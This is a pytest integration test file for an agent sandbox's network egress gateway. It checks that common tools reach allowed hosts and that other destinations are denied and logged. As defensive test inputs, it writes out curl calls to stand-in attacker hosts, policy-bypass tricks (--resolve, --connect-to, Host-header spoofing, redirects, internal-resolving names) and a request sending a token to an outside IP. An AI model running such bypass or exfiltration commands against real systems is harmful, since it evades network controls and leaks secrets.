# SPDX-License-Identifier: MIT
"""Programs as they are, through the gateway to real servers: nothing is set for them; what no rule names is shut."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.egress.world import SECURE_SHELL, World, secure_shell, server, world

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0, reason="not on this host: only root can make the world that is reached"
)

ALLOWED = ["web.example", "*.web.example", "six.example", f"{SECURE_SHELL}:22"]
PROGRAMS = (
    *("curl", "wget", "sha256sum", "cat", "chmod", "mkdir", "touch", "rm", "git", "ssh", "sh", "env", "node", "npm"),
    *(sys.executable, "/usr/bin/python3", "apt-get", "/usr/lib/apt/methods/http", "/usr/bin/dpkg", "apt-config"),
)
POLICY = f"read: .\nwrite: ./out\nexec: {', '.join(PROGRAMS)}\nnet: {', '.join(ALLOWED)}"
SHELL = """
set -u
export HOME=$PWD/out CURL_CA_BUNDLE=$PWD/ca.pem SSL_CERT_FILE=$PWD/ca.pem GIT_SSL_CAINFO=$PWD/ca.pem
export NODE_EXTRA_CA_CERTS=$PWD/ca.pem
cd out
"""


@pytest.fixture(scope="module")
def around(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with world(tmp_path_factory.mktemp("world")) as found:
        www = found.directory / "www"
        _package_index(www, tmp_path_factory.mktemp("package"))
        _node_registry(www)
        _repository(found.directory / "git")
        (www / "large").write_bytes(os.urandom(1 << 22))
        yield found


@pytest.fixture(scope="module")
def url(around: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    settings = {"AGENTBOX_ALLOW_REQUEST_EGRESS": "1", "AGENTBOX_PYTHON": sys.executable}
    with server(around, tmp_path_factory.mktemp("state"), **settings) as found:
        yield found


class Doors:
    """The two ways to run something: `agentbox run`, and a run behind the server."""

    def __init__(self, around: World, url: str, directory: Path) -> None:
        self.around, self.url, self.directory = around, url, directory

    def shell(self, door: str, code: str, **more: Any) -> str:
        """What a shell script says."""
        return self.run(door, SHELL + code, "bash", **more)

    def run(self, door: str, code: str, language: str, policy: str = POLICY) -> str:
        """What a program says on both streams; it must end well."""
        ca = self.around.certificate.read_text()
        if door == "http":
            body = {"code": code, "language": language, "policy": policy, "files": {"ca.pem": ca}, "args": []}
            answer = self.around.post(self.url, body | {"limits": {"timeout_seconds": 60}})
            assert answer.status_code == 200, answer.text
            self.result = answer.json()
            denied = [f"{one['effect']} {one['target']}: {one['reason']}" for one in self.result["denials"]]
            return "\n".join([self.result["stdout"], self.result["stderr"], *denied])
        (self.directory / "out").mkdir(exist_ok=True)
        (self.directory / "ca.pem").write_text(ca)
        (self.directory / "agentbox.policy").write_text(policy)
        program = {"bash": "/bin/bash", "python": sys.executable, "javascript": "node"}[language]
        (self.directory / "main").write_text(code)
        words = (sys.executable, "-m", "agentbox.cli.main", "run", "--", program, "./main")
        done = self.around.command(*words, cwd=self.directory)
        return done.stdout + done.stderr


@pytest.fixture
def doors(around: World, url: str, tmp_path: Path) -> Doors:
    return Doors(around, url + "/v1/run", tmp_path)


@pytest.fixture(params=["run", "http"])
def door(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_curl_and_wget_reach_allowed_hosts_over_http_and_https(doors: Doors, door: str) -> None:
    said = doors.shell(
        door,
        "curl -sS http://web.example/hello\necho\ncurl -sS https://web.example/hello\necho\n"
        "wget -qO- https://pkg.web.example/hello --ca-certificate=$CURL_CA_BUNDLE\necho\n"
        "curl -sS -6 http://six.example/hello\necho\n"
        "curl -sS https://web.example/large | sha256sum\n",
    )
    large = (doors.around.directory / "www/large").read_bytes()
    import hashlib

    for expected in (
        "hello web.example /hello",
        "hello pkg.web.example /hello",
        "hello six.example /hello",
        hashlib.sha256(large).hexdigest(),
    ):
        assert expected in said, said


def test_denied_host_is_told_in_the_words_of_its_protocol_and_never_asked(doors: Doors, door: str) -> None:
    said = doors.shell(
        door,
        "curl -sS http://evil.example/\ncurl -sS http://45.67.89.66/\ncurl -sSk https://45.67.89.66/\n"
        "curl -sSk https://web.example/ --resolve web.example:443:45.67.89.66\n"
        "curl -sSk https://evil.example/ --connect-to evil.example:443:web.example:443\n"
        "curl -sS http://web.example/ -H 'Host: evil.example'\n"
        "curl -sSL http://web.example/redirect\n"
        "curl -sS -m 3 http://inside.example/\n",
    )
    assert said.count("Could not resolve host: evil.example") == 2, said
    assert '"error": "policy_denied"' in said
    assert doors.around.hits() == []
    assert "evil.example" not in doors.around.asked()
    assert "inside.example" not in doors.around.asked()


def test_name_that_leads_inside_is_refused_whatever_dns_says(doors: Doors, door: str) -> None:
    policy = POLICY + ", inside.example, mapped.example"
    said = doors.shell(
        door, "for h in inside mapped; do curl -sS -m 5 http://$h.example:8080/; echo; done\n", policy=policy
    )
    assert said.count('"error": "policy_denied"') == 2, said


def test_git_clones_and_pushes_over_https_and_ssh(doors: Doors, door: str, around: World) -> None:
    with secure_shell(around) as key:
        code = (
            f"cat > key <<'EOF'\n{key.read_text()}EOF\nchmod 600 key\n"
            "export GIT_SSH_COMMAND='ssh -i key -o StrictHostKeyChecking=no -o UserKnownHostsFile=known -F none'\n"
            "git clone -q https://web.example/git/project.git one && cat one/README\n"
            f"git clone -q ssh://root@{SECURE_SHELL}{around.directory}/git/project.git two && cat two/README\n"
            "git clone -q https://evil.example/git/project.git three\n"
        )
        said = doors.shell(door, code)
    shutil.rmtree(around.directory / "ssh")
    assert said.count("read me") == 2, said
    assert "Could not resolve host: evil.example" in said


def test_pip_and_npm_install_from_local_indexes(doors: Doors, door: str) -> None:
    said = doors.shell(
        door,
        "/usr/bin/python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target packages "
        "--index-url https://pkg.web.example/simple/ --cert $CURL_CA_BUNDLE boxed-thing\n"
        "PYTHONPATH=packages /usr/bin/python3 -c 'import boxed_thing; print(boxed_thing.WORD)'\n"
        "npm install --silent --no-audit --no-fund --cache ./npm-cache --registry http://web.example/npm/ boxed-node\n"
        "node -p \"require('boxed-node')\"\n",
    )
    assert "installed from the index" in said, said
    assert "installed from the registry" in said, said


PYTHON = """
import asyncio, json, os, ssl, sys, urllib.request
import httpx, requests, websockets
ca = os.path.abspath("ca.pem")
context = ssl.create_default_context(cafile=ca)
print("urllib", urllib.request.urlopen("https://web.example/hello", context=context).read().decode())
print("requests", requests.get("https://web.example/hello", verify=ca).text)
with httpx.Client(verify=context) as client:
    print("httpx", client.get("https://web.example/hello").text)
    print(client.post("https://web.example/", content=b"x" * 300000).status_code)
async def main():
    reader, writer = await asyncio.open_connection("web.example", 80)
    writer.write(b"GET /hello HTTP/1.0\\r\\nHost: web.example\\r\\n\\r\\n")
    print("asyncio", (await reader.read()).decode().splitlines()[-1])
    async with websockets.connect("ws://web.example/socket", proxy=None) as socket:
        await socket.send("echo me")
        print("websockets", await socket.recv())
    async with websockets.connect("wss://web.example/socket", ssl=context, proxy=None) as socket:
        await socket.send("echo me safely")
        print("websockets", await socket.recv())
asyncio.run(main())
for url in ("http://evil.example/", "http://web.example/redirect"):
    try: print(requests.get(url, timeout=5).text)
    except Exception as error: print("denied", type(error).__name__)
"""


def test_python_clients_work_and_are_held(doors: Doors, door: str) -> None:
    said = doors.run(door, PYTHON, "python", POLICY + f"\nread: {sys.prefix}")
    for name in ("urllib", "requests", "httpx", "asyncio"):
        assert f"{name} hello web.example /hello" in said, said
    assert "websockets echo me\n" in said, said
    assert "websockets echo me safely" in said, said
    assert said.count("denied") == 2, said
    assert doors.around.hits() == []


NODE = """
const https = require('https'), fs = require('fs');
(async () => {
  console.log('fetch', await (await fetch('http://web.example/hello')).text());
  await new Promise((done) => https.get('https://web.example/hello', { ca: fs.readFileSync('ca.pem') }, (answer) => {
    answer.on('data', (data) => console.log('https', String(data))).on('end', done);
  }));
  const posted = await fetch('http://web.example/', { method: 'POST', body: new Blob(['y'.repeat(200000)]) });
  console.log('posted', posted.status);
  for (const url of ['http://evil.example/', 'http://web.example/redirect']) {
    try { console.log(await (await fetch(url)).text()); } catch (error) { console.log('denied', error.cause?.code); }
  }
})();
"""


def test_node_clients_work_and_are_held(doors: Doors, door: str) -> None:
    said = doors.run(door, NODE, "javascript")
    for expected in ("fetch hello web.example /hello", "https hello web.example /hello", "posted 200"):
        assert expected in said, said
    assert said.count("denied") == 2, said
    assert doors.around.hits() == []


def test_apt_fetches_lists_over_http(doors: Doors, door: str) -> None:
    said = doors.shell(
        door,
        "mkdir -p apt/lists/partial apt/cache/archives/partial apt/etc/preferences.d apt/state\n"
        "touch apt/state/status\n"
        "echo 'deb [trusted=yes] http://web.example/debian ./' > apt/sources.list\n"
        "apt-get -q -o Dir::State=$PWD/apt/state -o Dir::State::Lists=$PWD/apt/lists -o Dir::Cache=$PWD/apt/cache "
        "-o Dir::State::Status=$PWD/apt/state/status -o Dir::Etc=$PWD/apt/etc -o APT::Sandbox::User= "
        "-o Dir::Etc::SourceList=$PWD/apt/sources.list -o Dir::Etc::SourceParts=- update\n"
        "cat apt/lists/*Packages\n",
    )
    assert "Package: boxed" in said, said


def test_result_and_trace_count_connections_and_bytes_of_each_host(doors: Doors) -> None:
    doors.shell("http", "curl -sS https://web.example/large -o large; curl -sS http://web.example/hello\n")
    seen = doors.result["egress"]["web.example"]
    assert seen["connections"] == 2
    assert seen["bytes_down"] > 1 << 22
    assert doors.result["enforcement"]["network"] == "gateway"
    trace = doors.around.threads.submit(_trace, doors.url.removesuffix("/run"), doors.result["run_id"]).result()
    closed = [record for record in trace if record["op"] == "net.close" and record["origin"] == "gateway"]
    assert sum(record["args"]["bytes_down"] for record in closed) == seen["bytes_down"]


def test_denial_is_the_same_object_for_agent_result_and_trace(doors: Doors) -> None:
    said = doors.shell("http", "curl -sS http://45.67.89.66:8081/secret?token=1\n")
    told = json.loads(said.splitlines()[0])
    (denial,) = [one for one in doors.result["denials"] if one["effect"] == "net"]
    trace = doors.around.threads.submit(_trace, doors.url.removesuffix("/run"), doors.result["run_id"]).result()
    record = trace[denial["trace_index"]]
    assert told == {name: record["args"][name] for name in ("error", "host", "rule_missing", "hint", "retry")}
    assert (denial["rule_missing"], denial["hint"]) == (told["rule_missing"], told["hint"])
    assert denial["layer"] == "gateway"
    assert "token" not in json.dumps([record for record in trace if record["origin"] == "gateway"])


def _trace(url: str, run_id: str) -> list[dict[str, Any]]:
    import httpx

    text = httpx.get(f"{url}/runs/{run_id}/trace").text
    return [json.loads(line) for line in text.splitlines()]


def _package_index(www: Path, build: Path) -> None:
    """A wheel and an index of one page."""
    import zipfile

    index = www / "simple/boxed-thing"
    index.mkdir(parents=True)
    name = "boxed_thing-1.0-py3-none-any.whl"
    with zipfile.ZipFile(index / name, "w") as wheel:
        wheel.writestr("boxed_thing.py", "WORD = 'installed from the index'\n")
        wheel.writestr("boxed_thing-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: boxed-thing\nVersion: 1.0\n")
        wheel.writestr("boxed_thing-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        wheel.writestr("boxed_thing-1.0.dist-info/RECORD", "")
    (index / "index.html").write_text(f'<a href="{name}">{name}</a>')
    debian = www / "debian"
    debian.mkdir()
    (debian / "Packages").write_text("Package: boxed\nVersion: 1\nArchitecture: all\nFilename: boxed.deb\nSize: 1\n\n")
    del build


def _node_registry(www: Path) -> None:
    """A package and the registry's page about it."""
    import io
    import tarfile

    registry = www / "npm"
    registry.mkdir()
    package = json.dumps({"name": "boxed-node", "version": "1.0.0"}).encode()
    code = b"module.exports = 'installed from the registry'"
    with tarfile.open(registry / "boxed-node-1.0.0.tgz", "w:gz") as archive:
        for name, content in (("package.json", package), ("index.js", code)):
            entry = tarfile.TarInfo(f"package/{name}")
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    page = {
        "name": "boxed-node",
        "dist-tags": {"latest": "1.0.0"},
        "versions": {
            "1.0.0": {
                "name": "boxed-node",
                "version": "1.0.0",
                "dist": {"tarball": "http://web.example/npm/boxed-node-1.0.0.tgz"},
            }
        },
    }
    (registry / "boxed-node").write_text(json.dumps(page))


def _repository(git: Path) -> None:
    """A bare repository with one commit."""
    work = git.parent / "work"
    run = lambda *words: subprocess.run(["git", *words], check=True, capture_output=True)  # noqa: E731
    run("init", "-q", "-b", "main", str(work))
    (work / "README").write_text("read me\n")
    run("-C", str(work), "add", ".")
    run("-C", str(work), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "first")
    run("clone", "-q", "--bare", str(work), str(git / "project.git"))
